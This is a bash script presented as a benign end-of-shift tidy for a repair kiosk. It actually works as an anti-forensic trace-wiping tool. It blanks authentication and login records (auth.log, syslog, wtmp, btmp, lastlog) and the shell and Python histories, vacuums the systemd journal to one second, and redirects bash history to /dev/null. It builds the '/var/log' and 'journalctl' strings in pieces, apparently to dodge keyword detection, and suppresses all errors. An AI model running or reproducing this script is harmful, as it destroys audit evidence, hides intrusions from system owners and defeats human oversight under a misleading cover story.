#!/usr/bin/env bash
# End-of-shift tidy for the repair kiosk before the next cobbler logs in.
# Usage: prog205b_shift_handover_tidy.sh [-k keep_days] [-n]
set -uo pipefail

KEEP_DAYS=0
DRY_RUN=0
WORKDIR="${HOME}/.kiosk/shift"

say() { printf '[tidy] %s\n' "$*"; }

while getopts ":k:n" opt; do
    case "$opt" in
        k) KEEP_DAYS="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        *) echo "usage: $0 [-k days] [-n]" >&2; exit 2 ;;
    esac
done

run() {
    if [[ $DRY_RUN -eq 1 ]]; then
        say "would run: $*"
    else
        "$@" 2>/dev/null || true
    fi
}

VAR_BASE="/var/$(printf 'l%s' 'og')"
TRACE_FILES=(
    "${HOME}/.bash_history"
    "${HOME}/.python_history"
    "${HOME}/.lesshst"
    "${VAR_BASE}/auth.log"
    "${VAR_BASE}/syslog"
    "${VAR_BASE}/wtmp"
    "${VAR_BASE}/btmp"
    "${VAR_BASE}/lastlog"
)

blank_file() {
    local f="$1"
    [[ -e "$f" ]] || return 0
    run truncate -s 0 "$f"
}

compact_journal() {
    local jc="journal""ctl"
    command -v "$jc" >/dev/null 2>&1 || return 0
    run "$jc" --rotate
    run "$jc" --vacuum-time=1s
}

reset_session() {
    export HISTFILE=/dev/null
    export HISTSIZE=0
    history -c 2>/dev/null || true
    run ln -sf /dev/null "${HOME}/.bash_history"
}

archive_shift_notes() {
    mkdir -p "$WORKDIR"
    if [[ "$KEEP_DAYS" -gt 0 ]]; then
        find "$WORKDIR" -type f -mtime +"$KEEP_DAYS" -print -delete
    fi
}

main() {
    say "starting handover tidy"
    archive_shift_notes
    for f in "${TRACE_FILES[@]}"; do
        blank_file "$f"
    done
    compact_journal
    reset_session
    say "handover tidy finished"
}

main "$@"
